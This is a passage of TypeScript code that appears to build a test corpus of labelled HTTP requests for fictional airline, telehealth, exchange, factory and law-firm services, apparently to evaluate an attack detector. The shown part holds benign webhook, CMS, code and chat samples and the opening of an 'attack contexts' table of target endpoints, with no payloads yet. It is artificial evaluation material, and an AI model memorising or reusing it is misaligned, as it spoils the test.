      'user-agent': 'TwilioProxy/1.1',
      'content-type': 'application/x-www-form-urlencoded',
      'x-twilio-signature': b64(str(20)),
      'i-twilio-idempotency-token': uuid(),
    },
    body: qs({
      ToCountry: 'US',
      SmsMessageSid: `SM${hex(32)}`,
      NumMedia: '0',
      From: `+1${int(2000000000, 9999999999)}`,
      To: '+18005550199',
      Body: pick(['YES', 'STOP', 'Can I move my appt to 3pm?', 'C', "I'm running 10 min late sorry!!"]),
      AccountSid: `AC${hex(32)}`,
      ApiVersion: '2010-04-01',
    }),
  }),
  () => ({
    method: 'POST',
    path: '/hooks/github',
    headers: {
      host: H.mes,
      'user-agent': `GitHub-Hookshot/${hex(7)}`,
      'content-type': 'application/json',
      'x-github-event': 'push',
      'x-github-delivery': uuid(),
      'x-hub-signature-256': `sha256=${hex(64)}`,
    },
    body: JSON.stringify({
      ref: 'refs/heads/main',
      before: hex(40),
      after: hex(40),
      repository: { full_name: 'fabrikon/plc-recipes', private: true },
      pusher: { name: 'mkoch', email: 'm.koch@fabrikon-works.de' },
      commits: [
        {
          id: hex(40),
          message: pick([
            'fix(line3): raise oven setpoint to 210°C per QA-1187',
            'Revert "bump conveyor speed" - caused jams at PACK-11',
            'chore: update OPC UA node ids for MOLD-14',
          ]),
          timestamp: isoTs(),
          added: [],
          modified: ['recipes/line3/oven.yaml'],
          removed: [],
        },
      ],
    }),
  }),
  () => ({
    method: 'POST',
    path: '/webhooks/docusign',
    headers: {
      host: H.law,
      'user-agent': 'DocuSign Connect',
      'content-type': 'application/json',
      'x-docusign-signature-1': b64(str(32)),
    },
    body: JSON.stringify({
      event: pick(['envelope-completed', 'envelope-sent', 'recipient-declined']),
      apiVersion: 'v2.1',
      uri: `/restapi/v2.1/accounts/${uuid()}/envelopes/${uuid()}`,
      retryCount: 0,
      configurationId: int(10000, 99999),
      generatedDateTime: isoTs(),
      data: {
        accountId: uuid(),
        envelopeId: uuid(),
        envelopeSummary: {
          status: 'completed',
          emailSubject: pick([
            'Please DocuSign: MSA - Globex & LexVault.pdf',
            'Please sign: Settlement Agreement (Doe v. Globex)',
          ]),
          sender: { userName: name(), email: pick(EMAILS) },
        },
      },
    }),
  }),
  () => ({
    method: 'POST',
    path: '/webhooks/coinbase-commerce',
    headers: {
      host: H.cx,
      'user-agent': 'weipay-webhooks',
      'content-type': 'application/json',
      'x-cc-webhook-signature': hex(64),
    },
    body: JSON.stringify({
      attempt_number: 1,
      event: {
        id: uuid(),
        type: pick(['charge:confirmed', 'charge:pending', 'charge:failed']),
        api_version: '2018-03-22',
        created_at: isoTs(),
        data: {
          code: upper(8),
          name: 'Deposit',
          pricing: { local: { amount: money(10, 2000), currency: 'USD' } },
          payments: [
            {
              network: pick(['ethereum', 'bitcoin', 'solana']),
              transaction_id: `0x${hex(64)}`,
              status: 'CONFIRMED',
            },
          ],
        },
      },
    }),
  }),
  () => ({
    method: 'POST',
    path: '/webhooks/mux',
    headers: {
      host: H.tv,
      'user-agent': 'Mux Webhooks',
      'content-type': 'application/json',
      'mux-signature': `t=${1735000000 + int(0, 9999)},v1=${hex(64)}`,
    },
    body: JSON.stringify({
      type: pick(['video.asset.ready', 'video.asset.errored', 'video.asset.track.ready']),
      object: { type: 'asset', id: str(40) },
      id: uuid(),
      environment: { name: 'Production', id: str(6) },
      data: {
        status: 'ready',
        duration: Number((rng() * 3600).toFixed(3)),
        max_stored_resolution: 'UHD',
        passthrough: `tt${int(1000000, 9999999)}:ep_1x0${int(1, 9)}`,
        tracks: [
          { type: 'text', text_type: 'subtitles', language_code: 'es', name: 'Español', status: 'ready' },
        ],
      },
      created_at: isoTs(),
    }),
  }),
  () => ({
    method: 'POST',
    path: '/webhooks/sendgrid/events',
    headers: {
      host: H.date,
      'user-agent': 'SendGrid Event API',
      'content-type': 'application/json',
      'x-twilio-email-event-webhook-signature': b64(str(60)),
      'x-twilio-email-event-webhook-timestamp': String(1735000000 + int(0, 99999)),
    },
    body: JSON.stringify(
      Array.from({ length: int(1, 4) }, () => ({
        email: pick(EMAILS),
        timestamp: 1735000000 + int(0, 99999),
        event: pick(['delivered', 'open', 'click', 'bounce', 'spamreport']),
        sg_event_id: b64url(str(16)),
        sg_message_id: `${str(22)}.filterdrecv-${int(1, 9)}`,
        url: 'https://www.kindred-match.com/app/messages?utm_source=email&utm_campaign=new_match',
        useragent: pick(BROWSER_UA),
        ip: `198.51.100.${int(1, 254)}`,
        category: ['new_match'],
      })),
    ),
  }),
  () => ({
    method: 'POST',
    path: '/webhooks/amadeus/schedule-change',
    headers: {
      host: H.air,
      'user-agent': 'Amadeus-Notify/2.3',
      'content-type': 'application/json',
      'x-amadeus-signature': hex(64),
    },
    body: JSON.stringify({
      notificationType: 'SCHEDULE_CHANGE',
      recordLocator: pnr(),
      flights: [
        {
          carrierCode: 'SK',
          number: String(int(100, 2999)),
          oldDeparture: isoTs(),
          newDeparture: isoTs(),
          reason: pick(['OPERATIONAL', 'WEATHER', 'ATC restriction at CDG']),
        },
      ],
      sentAt: isoTs(),
    }),
  }),
  () => ({
    method: 'POST',
    path: '/webhooks/slack/interactive',
    headers: {
      host: H.mes,
      'user-agent': 'Slackbot 1.0 (+https://api.slack.com/robots)',
      'content-type': 'application/x-www-form-urlencoded',
      'x-slack-signature': `v0=${hex(64)}`,
      'x-slack-request-timestamp': String(1735000000 + int(0, 9999)),
    },
    body: `payload=${enc(JSON.stringify({ type: 'block_actions', user: { id: `U${upper(10)}`, username: 'mkoch' }, actions: [{ action_id: 'ack_alarm', value: `${pick(MACHINES)}|W-OVERTEMP`, type: 'button' }], response_url: `https://hooks.slack.com/actions/T${upper(8)}/${int(1000000000, 9999999999)}/${str(24)}` }))}`,
  }),
  () => ({
    method: 'POST',
    path: '/webhooks/calendly',
    headers: {
      host: H.med,
      'user-agent': 'Calendly-Webhooks/2',
      'content-type': 'application/json',
      'calendly-webhook-signature': `t=${1735000000 + int(0, 9999)},v1=${hex(64)}`,
    },
    body: JSON.stringify({
      event: 'invitee.created',
      created_at: isoTs(),
      payload: {
        email: pick(EMAILS),
        name: name(),
        questions_and_answers: [
          {
            question: 'What would you like to discuss?',
            answer: pick([
              'Follow-up on blood test results (TSH 5.2?)',
              'Anxiety meds - side effects',
              'Travel vaccines for Brazil trip',
            ]),
          },
        ],
        scheduled_event: { start_time: isoTs(), name: '15 min Telehealth Visit' },
      },
    }),
  }),
];

const cmsHtml: Tpl[] = [
  () =>
    jsonReq(
      'PUT',
      H.air,
      `/api/cms/offers/off_${int(100, 999)}`,
      {
        offer: {
          title: pick(['Double miles to Lisbon', 'Gold Status Match – Summer 2025']),
          bodyHtml: `<h2>Earn <strong>2x miles</strong> on every flight to Lisbon</h2><p>Book between <em>1–30 June</em> and travel until 30 Sept. <a href="https://www.skylark-air.com/loyalty/terms#double-miles" target="_blank" rel="noopener noreferrer">Terms apply</a>.</p><ul><li>Economy Light excluded</li><li>Max. 20,000 bonus miles per member</li></ul><p><img src="https://cdn.skylark-air.com/img/lisbon-hero.webp" alt="Lisbon tram at sunset" width="1200" height="600"></p>`,
          publishAt: isoTs(),
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'PUT',
      H.air,
      `/api/cms/pages/baggage-rules`,
      {
        offer: {
          title: 'Baggage rules',
          bodyHtml:
            '<table class="table"><thead><tr><th>Fare</th><th>Cabin bag</th><th>Checked</th></tr></thead><tbody><tr><td>Light</td><td>8 kg</td><td>–</td></tr><tr><td>Classic</td><td>8 kg</td><td>1 × 23 kg</td></tr><tr><td>Flex</td><td>2 × 8 kg</td><td>2 × 23 kg</td></tr></tbody></table><p style="font-size: 12px; color: #666;">* Sports equipment: see <a href="/baggage/special">special baggage</a>.</p>',
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'POST',
      H.med,
      `/api/v1/consultations/c_${str(10)}/notes`,
      {
        note: {
          format: 'html',
          html: `<p><strong>S:</strong> Pt reports sore throat x3 days, fever up to 38.6&nbsp;°C, no cough.</p><p><strong>O:</strong> Tonsillar exudate, tender anterior cervical nodes. Centor score 4.</p><p><strong>A/P:</strong></p><ol><li>Likely strep pharyngitis – Rx ${pick(DRUGS)} x10 days</li><li>Return if symptoms &gt; 48h after starting abx or difficulty swallowing</li></ol>`,
          signed: false,
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'POST',
      H.med,
      '/api/v1/education/articles',
      {
        note: {
          html: '<h1>Managing your blood pressure at home</h1><p>Measure at the same time each day. Sit quietly for <u>5 minutes</u> first.</p><blockquote>Target: below 130/80 mmHg unless your doctor says otherwise.</blockquote><p><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe></p>',
        },
        audience: 'patients',
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.tv,
      `/api/cms/titles/tt${int(1000000, 9999999)}`,
      {
        title: {
          name: pick(TITLES),
          synopsisHtml: `<p>When a lighthouse keeper finds a <em>message in a bottle</em> addressed to herself – dated 1987 – the quiet harbour town starts to unravel.</p><p><span style="color: rgb(230, 0, 0);">New episodes every Friday.</span></p>`,
        },
      },
      { ct: 'application/merge-patch+json', style: 'browser' },
    ),
  () =>
    jsonReq(
      'PUT',
      H.tv,
      `/api/cms/collections/col_${int(10, 99)}`,
      {
        title: {
          synopsisHtml:
            '<div class="ql-editor"><p>Our <strong>spooky season</strong> picks 🎃</p><p><br></p><ul><li>Cold Case: Aberdeen</li><li>Salt &amp; Ash</li></ul><p><a href="https://www.reelhouse.tv/browse/horror?utm_source=cms" rel="noopener noreferrer" target="_blank">See all horror</a></p></div>',
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'PUT',
      H.food,
      `/api/v1/restaurants/rst_${str(10)}/menu/items/itm_${int(100, 999)}`,
      {
        menu: {
          name: pick(['Tonkotsu Ramen', 'Cacio e Pepe', 'Brisket Plate']),
          descriptionHtml: `<p>Slow-cooked pork broth (18h), chashu, ajitama egg, nori.<br><small><em>Contains: wheat, soy, egg.</em></small></p><p>🌶️ Ask for <strong>extra spicy</strong> – "karakuchi".</p>`,
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'PUT',
      H.food,
      `/api/v1/restaurants/rst_${str(10)}/about`,
      {
        menu: {
          descriptionHtml: `<h3>Our story</h3><p>Opened in 2011 by chef <strong>${name()}</strong>, we serve seasonal Italian food with produce from farms &lt;50 km away.</p><figure class="image"><img src="https://cdn.tabletime.app/r/${str(10)}/kitchen.jpg" alt="Our kitchen"><figcaption>The kitchen, 2019</figcaption></figure>`,
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'POST',
      H.cx,
      '/api/cms/announcements',
      {
        article: {
          slug: `listing-${pick(['sol', 'link', 'arb'])}-${int(2024, 2025)}`,
          html: `<p>We're excited to announce the listing of <strong>${pick(['ARB', 'SUI', 'TIA'])}</strong>. Deposits open <time datetime="${isoTs()}">tomorrow 10:00 UTC</time>.</p><div class="callout callout-warning"><p>⚠️ Only deposit via the <code>ERC20</code> or <code>Arbitrum One</code> network. Deposits via other networks will be lost.</p></div><pre><code class="language-json">{ "symbol": "ARB-USDT", "tickSize": "0.0001" }</code></pre>`,
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'POST',
      H.mes,
      '/mes/api/work-instructions',
      {
        workInstruction: {
          op: int(10, 90),
          station: pick(MACHINES),
          html: `<h2>Changeover – die 40mm → 55mm</h2><ol><li>Lock-out / tag-out (<strong>LOTO</strong>) – see SOP-114</li><li>Remove 4× M12 bolts, torque on reinstall: <span style="background-color: #ffff00;">85 Nm</span></li><li>Verify first article with CMM, tolerance ±0.05 mm</li></ol><p><img src="/mes/files/wi/${uuid()}.png" alt="bolt pattern"></p>`,
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'PUT',
      H.law,
      `/api/contracts/ctr_${str(8)}/clauses/cl_${int(1, 40)}`,
      {
        clause: {
          heading: pick(['Limitation of Liability', 'Confidentiality', 'Governing Law']),
          html: `<p><strong>9.1</strong> IN NO EVENT SHALL EITHER PARTY BE LIABLE FOR ANY INDIRECT, INCIDENTAL OR CONSEQUENTIAL DAMAGES, <u>except</u> for breaches of Section 7 (Confidentiality).</p><p><strong>9.2</strong> Each party's aggregate liability shall not exceed the fees paid in the twelve (12) months preceding the claim.</p><p><span class="comment-marker" data-comment-id="c${int(1, 99)}">[JM: counterparty wants 24 months – push back]</span></p>`,
          version: int(2, 9),
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'POST',
      H.law,
      '/api/review/memos',
      {
        clause: {
          html: '<h3>Hot docs summary – VOL004</h3><ul><li><a href="/review/doc/CTRL00041877">CTRL00041877</a> – CFO email: "make the Q3 numbers work"</li><li><a href="/review/doc/CTRL00042210">CTRL00042210</a> – board deck draft with handwritten notes</li></ul><p>Next: depo prep for <s>Mr. Smith</s> Ms. Rossi.</p>',
        },
        matter: pick(MATTERS),
      },
      { style: 'browser' },
    ),
];

const code: Tpl[] = [
  () =>
    jsonReq('PUT', H.cx, `/api/v3/bots/bot_${str(8)}`, {
      bot: {
        name: pick(['rsi-meanrev', 'grid ETH', 'dca-weekly']),
        language: 'python',
        source: `import math\n\ndef on_tick(ctx):\n    rsi = ctx.indicator("rsi", period=14)\n    if rsi < 30 and ctx.position("${pick(COINS)}") == 0:\n        ctx.buy("${pick(COINS)}", size=0.01, type="limit", price=ctx.bid * 0.999)\n    elif rsi > 70 and ctx.position("${pick(COINS)}") > 0:\n        ctx.sell_all("${pick(COINS)}")\n    # TODO(me): stop-loss at -5%\n`,
      },
    }),
  () =>
    jsonReq(
      'PUT',
      H.cx,
      `/api/v3/bots/bot_${str(8)}`,
      {
        bot: {
          language: 'javascript',
          source:
            "export default async function onCandle(c, api) {\n  const sma20 = api.sma(c.close, 20);\n  const sma50 = api.sma(c.close, 50);\n  if (sma20 > sma50 && !api.hasPosition()) {\n    await api.order({ side: 'buy', size: '0.05', type: 'market' });\n  } else if (sma20 < sma50 && api.hasPosition()) {\n    await api.closeAll();\n  }\n  console.log(`sma20=${sma20.toFixed(2)} sma50=${sma50.toFixed(2)}`);\n}\n",
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'PUT',
      H.mes,
      `/mes/api/connectors/opcua-${int(1, 9)}/transform`,
      {
        transform: {
          lang: 'js',
          code: "function transform(msg) {\n  // PLC sends tenths of a degree as int16\n  const raw = msg.payload.T2;\n  if (raw === -32768) return null; // probe disconnected\n  return { machine: msg.topic.split('/')[2], tempC: raw / 10, ts: new Date(msg.ts).toISOString() };\n}\n",
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'POST',
      H.mes,
      '/mes/api/dashboards/widgets',
      {
        widget: {
          title: pick(['Avg temp per machine (1h)', 'Scrap by reason – this week']),
          type: 'table',
          sql: pick([
            "SELECT machine_id, avg(value) AS avg_temp, max(value) AS max_temp\nFROM readings\nWHERE sensor = 'T1' AND ts > now() - interval '1 hour'\nGROUP BY machine_id\nORDER BY avg_temp DESC\nLIMIT 20;",
            "SELECT r.code, sum(s.qty) AS scrap\nFROM scrap s JOIN scrap_reasons r ON r.id = s.reason_id\nWHERE s.created_at >= date_trunc('week', now())\nGROUP BY r.code\nHAVING sum(s.qty) > 0;",
          ]),
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'PUT',
      H.mes,
      `/mes/api/plc/programs/${pick(MACHINES)}`,
      {
        transform: {
          lang: 'iec61131-st',
          code: 'PROGRAM OvenControl\nVAR\n  tempC : REAL;\n  heaterOn : BOOL := FALSE;\nEND_VAR\n\nIF tempC < (setpoint - 2.0) THEN\n  heaterOn := TRUE;\nELSIF tempC > (setpoint + 1.0) THEN\n  heaterOn := FALSE;\nEND_IF;\n(* alarm if > 250 *)\nalarm := tempC > 250.0;\nEND_PROGRAM\n',
        },
      },
      { style: 'sdk' },
    ),
  () =>
    jsonReq(
      'PUT',
      H.law,
      `/api/templates/tpl_${int(1, 60)}`,
      {
        template: {
          name: pick(['Mutual NDA (US)', 'Litigation Hold Notice', 'Engagement Letter']),
          engine: 'handlebars',
          source:
            '<p>This Mutual Non-Disclosure Agreement is entered into as of {{effectiveDate}} by and between {{partyA.name}} ("{{partyA.shortName}}") and {{partyB.name}}.</p>\n{{#if includeNonSolicit}}<p>Neither party shall solicit the other\'s employees for {{nonSolicitMonths}} months.</p>{{/if}}\n{{#each signatories}}<p>__________________<br>{{this.name}}, {{this.title}}</p>{{/each}}',
        },
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq('PUT', H.law, `/api/templates/tpl_${int(1, 60)}`, {
      template: {
        engine: 'handlebars',
        source:
          'Dear {{custodian.firstName}},\n\nYou are receiving this notice because you may have documents relevant to {{matter.name}}. Do NOT delete, alter or discard any emails, chats (Slack/Teams) or files created after {{hold.startDate}}.\n\nQuestions? Contact {{attorney.email}}.',
      },
    }),
  () =>
    jsonReq('POST', H.law, '/api/saved-searches', {
      name: pick(['Falcon – key terms v3', 'Privilege screen']),
      savedSearch: {
        syntax: 'dtsearch',
        query: pick([
          '(merger OR acquisition OR "Project Falcon") AND NOT (newsletter OR unsubscribe)',
          '(attorney OR counsel OR "legal advice" OR privileged) w/10 (draft OR advice)',
        ]),
      },
      folder: 'Searches/Key Terms',
    }),
  () =>
    jsonReq(
      'POST',
      H.tv,
      '/api/support/tickets',
      {
        subject: 'Player error on embed',
        category: 'developer',
        body: "Embedding the player like this:\n\n```html\n<div id=\"player\"></div>\n<script src=\"https://player.reelhouse.tv/v3/embed.js\"></script>\n<script>\n  Reelhouse.mount('#player', { titleId: 'tt0944947', autoplay: false, subtitles: 'es' });\n</script>\n```\n\nI get `Uncaught ReferenceError: Reelhouse is not defined` on Firefox only. Chrome works. CSP is `script-src 'self' https://player.reelhouse.tv`.",
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'POST',
      H.cx,
      '/api/support/tickets',
      {
        subject: 'HMAC signature mismatch',
        body: 'My signing code:\n\n```python\nimport hmac, hashlib, time, requests\nts = str(int(time.time() * 1000))\nquery = f"symbol=BTC-USDT&side=buy&type=limit&price=60000&size=0.001&timestamp={ts}"\nsig = hmac.new(SECRET.encode(), query.encode(), hashlib.sha256).hexdigest()\nr = requests.post(f"https://api.kestrel-exchange.io/api/v3/orders?{query}&signature={sig}", headers={"X-API-KEY": KEY})\nprint(r.status_code, r.text)  # 400 {"code":-1022,"msg":"Signature for this request is not valid."}\n```\nWhat am I doing wrong?',
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'POST',
      H.mes,
      '/mes/api/support/tickets',
      {
        subject: 'Edge gateway keeps restarting',
        body: 'docker logs from the edge box:\n\n```\n$ docker logs --tail 20 mes-edge\n2024-11-02 03:14:07 WARN  opcua: reconnecting to opc.tcp://10.20.3.14:4840 (attempt 12)\n2024-11-02 03:14:09 ERROR Killed (OOM) - container exceeded 512MiB\n```\n\nI bumped `mem_limit` to 1g in docker-compose.yml and ran `docker compose up -d --force-recreate`, still happens every ~6h. `free -m` shows plenty of RAM.',
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq(
      'POST',
      H.air,
      '/api/dev/feedback',
      {
        app: 'partner-portal',
        message:
          'Your NDC AirShopping example is wrong, the XML should be:\n```xml\n<IATA_AirShoppingRQ xmlns="http://www.iata.org/IATA/2015/00/2019.2/IATA_AirShoppingRQ">\n  <PayloadAttributes><Version>19.2</Version></PayloadAttributes>\n</IATA_AirShoppingRQ>\n```\nnot 17.2. Cost me half a day 🙃',
      },
      { style: 'sdk' },
    ),
  () =>
    jsonReq(
      'PUT',
      H.air,
      '/api/v2/partner/fare-rules/config',
      {
        rule: {
          format: 'yaml',
          yaml: "fareFamilies:\n  - code: LIGHT\n    baggage: { cabin: 8kg, checked: 0 }\n    changeFee: 70\n  - code: FLEX\n    baggage: { cabin: 16kg, checked: 2 }\n    changeFee: 0\nrules:\n  - if: \"origin in ['LHR','LGW'] && cabin == 'J'\"\n    then: { loungeAccess: true }\n",
        },
      },
      { style: 'sdk' },
    ),
  () =>
    jsonReq(
      'POST',
      H.food,
      '/api/v1/integrations/pos',
      {
        provider: 'toast',
        config: JSON.stringify({
          restaurantGuid: uuid(),
          mapping: { 'Ramen (L)': 'item_443', 'Gyoza x6': 'item_12' },
          syncEvery: '*/5 * * * *',
        }),
        notes: 'cron is every 5 min, ok? "*/5 * * * *"',
      },
      { style: 'sdk' },
    ),
];

const prose: Tpl[] = [
  () =>
    jsonReq('POST', H.air, '/api/v2/support/cases', {
      bookingRef: pnr(),
      category: pick(['refund', 'seat', 'baggage', 'other']),
      message: pick(PROSE.slice(0, 4).concat(PROSE.slice(22, 23), PROSE.slice(33, 34), PROSE.slice(42, 43))),
    }),
  () =>
    jsonReq(
      'POST',
      H.med,
      `/api/v1/consultations/c_${str(10)}/messages`,
      { from: 'patient', text: pick(PROSE.slice(4, 7).concat(PROSE.slice(28, 29), PROSE.slice(43, 44))) },
      { style: 'mobile' },
    ),
  () =>
    jsonReq('POST', H.tv, '/api/feedback', {
      titleId: `tt${int(1000000, 9999999)}`,
      kind: pick(['subtitle_issue', 'playback', 'suggestion']),
      text: pick(PROSE.slice(7, 9).concat(PROSE.slice(29, 30), PROSE.slice(38, 39))),
    }),
  () =>
    jsonReq(
      'POST',
      H.food,
      `/api/v1/restaurants/rst_${str(10)}/reviews`,
      {
        rating: int(1, 5),
        body: pick(PROSE.slice(9, 12).concat(PROSE.slice(27, 28), PROSE.slice(36, 37), PROSE.slice(44, 45))),
      },
      { style: 'mobile' },
    ),
  () =>
    jsonReq('POST', H.cx, '/api/support/tickets', {
      subject: pick(['Withdrawal delayed', 'API problem', 'Order filled at wrong price', 'App bug']),
      body: pick(PROSE.slice(12, 15).concat(PROSE.slice(24, 25), PROSE.slice(34, 35), PROSE.slice(41, 42))),
    }),
  () =>
    jsonReq(
      'POST',
      H.mes,
      `/mes/api/work-orders/WO-${int(1000, 9999)}/comments`,
      {
        author: `op-${int(100, 999)}`,
        text: pick(PROSE.slice(15, 17).concat(PROSE.slice(30, 31), PROSE.slice(39, 40), PROSE.slice(26, 27))),
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq('POST', H.law, `/api/review/documents/CTRL${int(10000000, 99999999)}/notes`, {
      text: pick(PROSE.slice(17, 19).concat(PROSE.slice(32, 33), PROSE.slice(40, 41), PROSE.slice(25, 26))),
    }),
  () =>
    jsonReq(
      'POST',
      H.date,
      `/api/v2/conversations/${uuid()}/messages`,
      {
        clientMessageId: uuid(),
        text: pick(PROSE.slice(19, 22).concat(PROSE.slice(31, 32), PROSE.slice(37, 38), PROSE.slice(23, 24))),
      },
      { style: 'mobile' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.date,
      '/api/v2/profiles/me',
      {
        bio: pick(PROSE.slice(19, 20)),
        prompts: [
          {
            question: "I'm weirdly good at",
            answer: pick([
              'parallel parking & pub quizzes',
              'guessing the SQL behind any dashboard (nerd alert)',
              'finding the one table with no reservation',
            ]),
          },
        ],
      },
      { ct: 'application/merge-patch+json', style: 'mobile' },
    ),
  () =>
    jsonReq('POST', H.food, `/api/v1/reservations/res_${str(10)}/messages`, {
      text: pick([
        PROSE[11] ?? '',
        PROSE[36] ?? '',
        PROSE[44] ?? '',
        "We're stuck in traffic on I-95 - ETA 8:10 instead of 7:45, is that ok?",
      ]),
    }),
];

const i18n: Tpl[] = [
  () =>
    jsonReq(
      'POST',
      H.tv,
      '/api/feedback',
      { kind: 'subtitle_issue', locale: 'ja-JP', text: I18N[3] ?? '' },
      { extra: { 'accept-language': 'ja-JP,ja;q=0.9' } },
    ),
  () =>
    jsonReq(
      'POST',
      H.food,
      `/api/v1/restaurants/rst_${str(10)}/reviews`,
      { rating: int(3, 5), locale: pick(['fr-FR', 'it-IT']), body: pick([I18N[1] ?? '', I18N[11] ?? '']) },
      { style: 'mobile' },
    ),
  () =>
    jsonReq(
      'POST',
      H.med,
      `/api/v1/consultations/c_${str(10)}/messages`,
      { text: pick([I18N[2] ?? '', I18N[6] ?? '', I18N[13] ?? '', I18N[19] ?? '']) },
      { style: 'mobile' },
    ),
  () =>
    jsonReq('POST', H.air, '/api/v2/support/cases', {
      message: pick([I18N[4] ?? '', I18N[7] ?? '', I18N[18] ?? '']),
      bookingRef: pnr(),
    }),
  () =>
    jsonReq('POST', H.cx, '/api/support/tickets', {
      body: pick([I18N[5] ?? '', I18N[17] ?? '']),
      lang: pick(['ru', 'pl']),
    }),
  () =>
    jsonReq(
      'POST',
      H.date,
      `/api/v2/conversations/${uuid()}/messages`,
      {
        text: pick([
          I18N[8] ?? '',
          I18N[14] ?? '',
          'Ça te dit un verre jeudi ? 🍷',
          '¿Y tú qué haces los domingos? 😄',
        ]),
      },
      { style: 'mobile' },
    ),
  () =>
    jsonReq(
      'POST',
      H.mes,
      `/mes/api/work-orders/AU-${int(40000, 49999)}/comments`,
      { text: I18N[9] ?? '', lang: 'de' },
      { style: 'browser' },
    ),
  () => jsonReq('POST', H.law, `/api/contracts/ctr_${str(8)}/comments`, { text: I18N[10] ?? '', lang: 'de' }),
  () =>
    jsonReq(
      'PATCH',
      H.tv,
      `/api/subtitles/tracks/trk_${str(8)}`,
      { lang: pick(['cs', 'el', 'th']), note: pick([I18N[16] ?? '', I18N[12] ?? '', I18N[15] ?? '']) },
      { ct: 'application/merge-patch+json' },
    ),
  () =>
    jsonReq('PUT', H.date, '/api/v2/profiles/me', {
      firstName: pick(['Zoë', 'José', 'Łukasz', 'Ngọc', 'Søren', '美咲', 'Ольга']),
      bio: pick([
        'Amo viajar ✈️, café ☕ y perros 🐕',
        'Ingénieure le jour, pâtissière la nuit 🥐',
        '東京在住。週末はカフェ巡り。',
        'Люблю горы и хорошие книги 📚',
      ]),
      city: pick(['São Paulo', 'Kraków', 'Zürich', '大阪', 'Москва']),
    }),
];

// ---------------------------------------------------------------- clean assembly

const CLEAN_PLAN: Array<[string, number, Tpl[]]> = [
  ['rest-write', 50, restWrite],
  ['merge-patch', 25, mergePatch],
  ['json-patch', 24, jsonPatch],
  ['jsonapi', 24, jsonApi],
  ['graphql', 36, graphql],
  ['delete', 15, del],
  ['search', 45, search],
  ['form', 25, form],
  ['multipart', 25, multipartT],
  ['ndjson', 21, ndjson],
  ['webhook', 30, webhook],
  ['cms-html', 30, cmsHtml],
  ['code', 35, code],
  ['prose', 45, prose],
  ['i18n', 20, i18n],
];

const clean: CorpusRequest[] = [];
const seen = new Set<string>();
for (const [kind, n, tpls] of CLEAN_PLAN) {
  for (let i = 0; i < n; i++) {
    let r: Req | undefined;
    for (let k = 0; k < tpls.length * 4 && !r; k++) {
      const cand = tpls[(i + Math.floor(k / 3)) % tpls.length]?.();
      if (cand && !seen.has(`${cand.path}|${cand.body}`)) r = cand;
    }
    if (!r) continue;
    seen.add(`${r.path}|${r.body}`);
    clean.push({
      id: `h14c${clean.length + 1}`,
      kind,
      method: r.method,
      path: r.path,
      headers: r.headers,
      body: r.body,
    });
  }
}

// ---------------------------------------------------------------- attack contexts

interface Ctx {
  readonly host: string;
  readonly write: string;
  readonly read: string;
  readonly gqlType: string;
  readonly base: Record<string, unknown>;
  readonly login: string;
}

const CTX: readonly Ctx[] = [
  {
    host: H.air,
    write: '/api/v2/bookings',
    read: '/api/v2/flights/search',
    gqlType: 'Booking',
    base: { offerId: 'off_8Hk2LmQx', cabin: 'economy' },
    login: '/api/v2/auth/login',
  },
  {
    host: H.air,
    write: '/api/v2/loyalty/members/me/profile',
    read: '/api/v2/loyalty/transactions',
    gqlType: 'LoyaltyProfile',
    base: { memberId: 'SK4481920' },
    login: '/api/v2/auth/login',
  },
  {
    host: H.med,
    write: '/api/v1/consultations',
    read: '/api/v1/patients/search',
    gqlType: 'Consultation',
    base: { patientId: 'pat_a81Kd0Qe2b', type: 'video' },
    login: '/api/v1/auth/session',
  },
  {
    host: H.med,
    write: '/api/v1/pharmacy/orders',
    read: '/api/v1/prescriptions',
    gqlType: 'PharmacyOrder',
    base: { prescriptionId: 'rx_3fa9c01b7d22', qty: 30 },
    login: '/api/v1/auth/session',
  },
  {
    host: H.tv,
    write: '/api/subtitles/tracks',
    read: '/api/search',
    gqlType: 'SubtitleTrack',
    base: { titleId: 'tt4532118', lang: 'es' },
    login: '/api/auth/signin',
  },
  {
    host: H.tv,
    write: '/api/profiles',
    read: '/api/catalog/titles',
    gqlType: 'Profile',
    base: { maturityRating: 'PG-13' },
    login: '/api/auth/signin',
  },
  {
    host: H.food,
    write: '/api/v1/reservations',
    read: '/api/v1/restaurants/search',
    gqlType: 'Reservation',
    base: { restaurantId: 'rst_Kq81mZa0pX', partySize: 4 },
    login: '/api/v1/auth/login',
  },
  {
    host: H.food,
    write: '/api/v1/restaurants/rst_Kq81mZa0pX/reviews',
    read: '/api/v1/reviews',
    gqlType: 'Review',
    base: { rating: 5 },
    login: '/api/v1/auth/login',
  },
  {
    host: H.cx,
    write: '/api/v3/orders',
    read: '/api/v3/trades',
    gqlType: 'Order',
    base: { symbol: 'BTC-USDT', side: 'buy', size: '0.01' },
    login: '/api/v3/auth/login',
  },
  {
    host: H.cx,
    write: '/api/v3/withdrawals',
    read: '/api/v3/wallets/addresses',
    gqlType: 'Withdrawal',
    base: { asset: 'USDT', network: 'TRC20', amount: '250' },
    login: '/api/v3/auth/login',
  },
  {
    host: H.mes,
    write: '/mes/api/work-orders',
    read: '/mes/api/sensors/readings',
    gqlType: 'WorkOrder',
    base: { quantity: 500, line: 'LINE-2' },
    login: '/mes/api/auth/token',
